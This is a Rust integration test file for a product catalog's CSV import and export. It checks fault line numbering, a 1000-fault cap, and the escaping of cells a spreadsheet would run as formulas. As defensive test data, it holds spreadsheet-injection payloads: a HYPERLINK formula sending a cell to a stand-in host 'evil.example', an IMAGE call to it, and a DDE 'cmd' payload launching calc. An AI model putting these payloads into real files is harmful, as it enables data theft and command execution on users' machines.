//! Catalog files as spreadsheets write and read them: an import's faults are numbered by the
//! line a spreadsheet shows (LF, CRLF with Excel's byte order mark, blank lines, quoted fields
//! over several lines), only the first 1000 faults are listed, and a text cell a spreadsheet
//! would run as a formula is exported behind a `'` that the import takes away again.

mod support;

use serde_json::{json, Value};
use support::{on_each_store, TestServer};

async fn import(server: &TestServer, csv: &str) -> (u16, Value) {
    let response = server
        .http
        .post(server.url("/api/products/import"))
        .header("content-type", "text/csv")
        .body(csv.to_string())
        .send()
        .await
        .unwrap();
    let status = response.status().as_u16();
    (status, response.json().await.unwrap_or(Value::Null))
}

/// The lines of the faults of a refused import, in order.
fn fault_lines(refused: &Value) -> Vec<u64> {
    refused["rows"]
        .as_array()
        .unwrap_or_else(|| panic!("no rows: {refused}"))
        .iter()
        .map(|fault| fault["line"].as_u64().expect("a line"))
        .collect()
}

/// The names of the fields at fault in the `n`th fault.
fn fault_fields(refused: &Value, n: usize) -> Vec<String> {
    refused["rows"][n]["fields"]
        .as_object()
        .unwrap_or_else(|| panic!("no fields: {refused}"))
        .keys()
        .cloned()
        .collect()
}

const HEADER: &str = "title,description,code,price,stock,category";
/// Three good rows, then one whose price is not a number.
const ROWS: [&str; 4] = [
    "ok,d,A,1,1,c",
    "ok,d,B,1,1,c",
    "ok,d,C,1,1,c",
    "mal,d,D,caro,1,c",
];

on_each_store! {
    async fn import_faults_are_numbered_as_a_spreadsheet_numbers_its_lines() {
        let server = TestServer::start().await;
        let lf = format!("{HEADER}\n{}\n", ROWS.join("\n"));
        // Excel's "CSV UTF-8": a byte order mark, and CRLF line endings.
        let excel = format!("\u{feff}{HEADER}\r\n{}\r\n", ROWS.join("\r\n"));
        for (what, file) in [("LF", &lf), ("CRLF with a BOM", &excel)] {
            let (status, refused) = import(&server, file).await;
            assert_eq!(status, 400, "{what}: {refused}");
            assert_eq!(fault_lines(&refused), [5], "{what}: {refused}");
            assert_eq!(fault_fields(&refused, 0), ["price"], "{what}: {refused}");
        }
        // A blank line is a line of the sheet too.
        let blank = format!("{HEADER}\r\n\r\n{}\r\n", ROWS[3]);
        let (_, refused) = import(&server, &blank).await;
        assert_eq!(fault_lines(&refused), [3], "{refused}");
        // A repeated code names the line of its first appearance.
        let repeated = format!("\u{feff}{HEADER}\r\nuno,d,X,1,1,c\r\ndos,d,Y,1,1,c\r\ntres,d,X,1,1,c\r\n");
        let (_, refused) = import(&server, &repeated).await;
        assert_eq!(fault_lines(&refused), [4], "{refused}");
        let said = refused["rows"][0]["fields"]["code"].as_str().unwrap_or_default();
        assert!(said.contains("línea 2") && !said.contains("línea 4"), "{said}");
        // Quoted fields over several lines (CRLF and LF inside them): a row is numbered by the
        // line it starts on, and the rows after it by theirs.
        let spanning = format!(
            "{HEADER}\r\n\"dos\r\nlíneas\",d,A,1,1,c\r\n\"tres\nlíneas\nmás\",d,B,x,1,c\r\nok,d,A,1,1,c\r\n"
        );
        let (status, refused) = import(&server, &spanning).await;
        assert_eq!(status, 400);
        assert_eq!(fault_lines(&refused), [4, 7], "{refused}");
        assert_eq!(fault_fields(&refused, 0), ["price"], "{refused}");
        let said = refused["rows"][1]["fields"]["code"].as_str().unwrap_or_default();
        assert!(said.contains("línea 2"), "{said}");
        assert_eq!(server.count("/api/products").await, 0, "nothing imported");

        // The same Excel file without its faulty row imports, its last column without the CR.
        let good = format!("\u{feff}{HEADER}\r\n{}\r\n", ROWS[..3].join("\r\n"));
        assert_eq!(import(&server, &good).await, (200, json!({"created": 3, "updated": 0})));
        let (_, products) = server.get("/api/products").await;
        for made in products.as_array().unwrap() {
            assert_eq!((&made["title"], &made["category"]), (&json!("ok"), &json!("c")), "{made}");
        }
    }

    async fn a_file_of_thousands_of_faults_lists_the_first_1000_and_says_how_many() {
        let server = TestServer::start().await;
        let mut file = format!("{HEADER}\n");
        for _ in 0..3000 {
            file.push_str("solo,dos\n");
        }
        let (status, refused) = import(&server, &file).await;
        assert_eq!(status, 400);
        let lines = fault_lines(&refused);
        assert_eq!(lines.len(), 1000, "only the first 1000 are listed");
        assert_eq!((lines[0], lines[999]), (2, 1001));
        let said = refused["rows"][0]["fields"]["row"].as_str().unwrap_or_default();
        assert!(said.contains("columnas"), "the row's problem: {said:?}");
        let error = refused["error"].as_str().expect("a sentence");
        assert!(error.contains("3000") || error.contains("3.000"), "the total: {error}");
        assert!(error.contains("1000") || error.contains("1.000"), "{error}");
        assert_eq!(server.count("/api/products").await, 0);
    }
}

/// How a spreadsheet would take a cell: as a formula when it starts with one of these.
fn runs_as_formula(cell: &str) -> bool {
    cell.starts_with(['=', '+', '-', '@', '\t', '\r'])
}

/// The catalog file of `server`, as its rows of cells (the header first).
async fn exported(server: &TestServer) -> (String, Vec<Vec<String>>) {
    let file = server.catalog_file().await;
    let rows = csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(file.as_bytes())
        .records()
        .map(|record| record.unwrap().iter().map(String::from).collect())
        .collect();
    (file, rows)
}

on_each_store! {
    async fn formulas_are_exported_behind_a_quote_and_import_back_the_same() {
        let server = TestServer::start().await;
        // The product checks trim the text, so a leading tab or CR never reaches the store;
        // every other start of a formula does, in every text column.
        let texts = [
            ("=HYPERLINK(\"https://evil.example/?d=\"&B2,\"Ver foto\")", "+54 11 5555-0000", "-COD-1", "@categoría"),
            ("+5 cm", "-30 cm de largo", "@COD-2", "=1+1"),
            ("@SUM(1+1)*cmd|' /C calc'!A0", "=A1", "+COD-3", "-rebajas"),
            ("-", "@", "=", "+"),
            ("'=ya con comilla", "'comilla sola", "''=dos comillas", "normal"),
            ("Normal", "una = en el medio", "N-1", "útiles"),
        ];
        let mut made = Vec::new();
        for (n, (title, description, code, category)) in texts.into_iter().enumerate() {
            made.push(
                server
                    .create(&json!({
                        "title": title,
                        "description": description,
                        "code": code,
                        "price": n as f64 + 0.5,
                        "stock": n,
                        "category": category,
                        "thumbnails": ["=IMAGE(\"https://evil.example/x.png\")", "/b.png"],
                    }))
                    .await,
            );
        }
        let (file, rows) = exported(&server).await;
        let header = &rows[0];
        let text_columns = ["title", "description", "code", "category", "thumbnails"];
        for (product, row) in made.iter().zip(&rows[1..]) {
            assert_eq!(row[0], product["id"].to_string(), "{row:?}");
            for column in text_columns {
                let at = header.iter().position(|h| h == column).unwrap();
                let cell = &row[at];
                assert!(!runs_as_formula(cell), "{column}: {cell:?} would run");
                let text = match &product[column] {
                    Value::Array(list) => list.iter().map(|t| t.as_str().unwrap()).collect::<Vec<_>>().join(" "),
                    text => text.as_str().unwrap().to_string(),
                };
                if runs_as_formula(&text) {
                    assert_eq!(cell, &format!("'{text}"), "{column}");
                } else if !text.starts_with('\'') {
                    assert_eq!(cell, &text, "{column}: written as it is");
                }
            }
        }

        // That very file, into an empty server: the same products, field for field.
        let other = TestServer::start().await;
        assert_eq!(
            import(&other, &file).await,
            (200, json!({"created": made.len(), "updated": 0}))
        );
        let (_, copied) = other.get("/api/products").await;
        let copied = copied.as_array().unwrap();
        assert_eq!(copied.len(), made.len());
        for (copy, original) in copied.iter().zip(&made) {
            let mut copy = copy.clone();
            copy["id"] = original["id"].clone();
            assert_eq!(&copy, original);
        }
        // And back into the first server: every code is known, nothing changes.
        assert_eq!(
            import(&server, &file).await,
            (200, json!({"created": 0, "updated": made.len()}))
        );
        assert_eq!(server.get("/api/products").await.1, json!(made));
    }
}
